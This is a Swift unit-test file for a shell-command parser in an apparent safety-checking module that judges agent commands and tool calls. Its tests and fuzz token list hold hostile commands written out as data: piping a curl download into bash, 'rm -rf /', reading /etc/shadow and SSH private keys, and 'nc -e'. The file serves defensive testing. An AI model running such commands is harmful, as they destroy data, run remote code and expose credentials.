import Episodes
@testable import SafetyFloor
import XCTest

final class ShellParserTests: XCTestCase {
    func words(_ command: ShellCommand) -> [String] { command.words.map(\.text) }

    func commands(_ text: String) -> [[String]] {
        ShellScript.parse(text).pipelines.flatMap(\.commands).map(words)
    }

    func testQuotesEscapesAndTheHomeVariableAreRemovedOrExpanded() {
        XCTAssertEqual(commands(#"echo 'a b' "c $HOME/x" d\ e ${HOME} $'\x2fetc' "q\"q""#),
                       [["echo", "a b", "c ~/x", "d e", "~", "/etc", "q\"q"]])
    }

    func testOperatorsSplitCommandsAndPipesJoinThem() {
        let script = ShellScript.parse("a 1 && b || c; d | e |& f & g\nh")
        XCTAssertEqual(script.pipelines.map { $0.commands.map { $0.words.first?.text ?? "" } }, [["a"], ["b"], ["c"], ["d", "e", "f"], ["g"], ["h"]])
    }

    func testSubstitutionsAreParsedAsScriptsOfTheirOwn() {
        let word = ShellScript.parse("cat $(echo /etc/x) `id -u`").pipelines[0].commands[0].words
        XCTAssertEqual(word.count, 3)
        XCTAssertEqual(word[1].substitutions.flatMap { $0.pipelines.flatMap(\.commands) }.map(words), [["echo", "/etc/x"]])
        XCTAssertEqual(word[2].substitutions.flatMap { $0.pipelines.flatMap(\.commands) }.map(words), [["id", "-u"]])
        let process = ShellScript.parse("bash <(curl -s http://x.example)").pipelines[0].commands[0].words[1]
        XCTAssertTrue(process.isProcessSubstitution)
        XCTAssertEqual(process.substitutions.first?.pipelines.first?.commands.first.map(words), ["curl", "-s", "http://x.example"])
    }

    func testRedirectionsAreSeparatedFromWords() {
        let command = ShellScript.parse("cat < in.txt > out.txt 2>&1 >>log &>all").pipelines[0].commands[0]
        XCTAssertEqual(words(command), ["cat"])
        XCTAssertEqual(command.redirections.map(\.kind), ["<", ">", ">&", ">>", "&>"])
        XCTAssertEqual(command.redirections.map(\.target.text), ["in.txt", "out.txt", "1", "log", "all"])
    }

    func testUnquotedGlobCharactersMakeAPatternAndQuotedOnesDoNot() {
        let globbed = ShellScript.parse("cat /etc/sha?ow /etc/sh* x[ab] '/etc/sh*' {a,b}c").pipelines[0].commands[0].words
        XCTAssertEqual(globbed.map(\.glob), [nil, "/etc/sha?ow", "/etc/sh*", "x[ab]", nil, "{a,b}c"])
    }

    func testAssignmentsAreRememberedForLaterCommands() {
        XCTAssertEqual(commands("F=/etc/shadow; export D=~/.ssh; cat $F ${D}/id_rsa"), [[], ["export", "D=~/.ssh"], ["cat", "/etc/shadow", "~/.ssh/id_rsa"]])
    }

    func testHeredocBodiesAreTheRedirectionTarget() {
        let script = ShellScript.parse("bash <<EOF\nrm -rf /\nEOF\necho done")
        XCTAssertEqual(script.pipelines.flatMap(\.commands).map(words), [["bash"], ["echo", "done"]])
        XCTAssertEqual(script.pipelines[0].commands[0].redirections.first?.target.text, "rm -rf /\n")
    }

    func testQuotedWordsParseBackToThemselves() {
        let words = ["rm", "-rf", "it's here", "$HOME", "a b"]
        XCTAssertEqual(commands(ShellScript.quoted(words)), [words])
    }

    func testCommentsAndGroupingAreIgnored() {
        XCTAssertEqual(commands("(cd /tmp && ls) # rm -rf /\n{ echo a; }"), [["cd", "/tmp"], ["ls"], ["echo", "a"]])
    }
}

final class ShellParserRobustnessTests: XCTestCase {
    /// Command lines made of shell metacharacters in every order: truncated quotes,
    /// substitutions, here-documents and redirections must never trap the proxy, as a command
    /// or as a path, a body or code of other tools.
    func testRandomCommandLinesParseAndJudgeTheSameTwice() {
        let pieces = ["'", "\"", "`", "$(", "$((", "${", ")", "}", "{", "(", "<(", ">(", "<<", "<<<", "EOF", "\n", "\\", "$'\\x", "~", "*", "?",
                      "[", "]", ",", "|", "||", "&&", "&", ";", "#", ">", ">>", "2>&1", "&>", "<", "=", "$HOME", "$X", "X=/etc", "rm", "-rf", "/",
                      "cat", "/etc/shadow", "sh", "-c", "curl", "nc", "-e", "cd", "..", "find", "-delete", "python3", "exec", " ", " ", " "]
        var state: UInt64 = 0x9E37_79B9_7F4A_7C15
        func next(_ bound: Int) -> Int {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int((state >> 33) % UInt64(bound))
        }
        for _ in 0..<1000 {
            let line = (0..<(1 + next(24))).map { _ in pieces[next(pieces.count)] }.joined()
            let first = SafetyFloor.finding(command: line)
            XCTAssertEqual(first, SafetyFloor.finding(command: line), line)
            for tool in ["delete_file", "send_email", "write_file", "run_python"] {
                let call = { SafetyFloor.finding(tool: Tool(name: tool, description: ""), arguments: .object(["path": .string(line), "code": .string(line)])) }
                XCTAssertEqual(call(), call(), "\(tool): \(line)")
            }
        }
    }
}
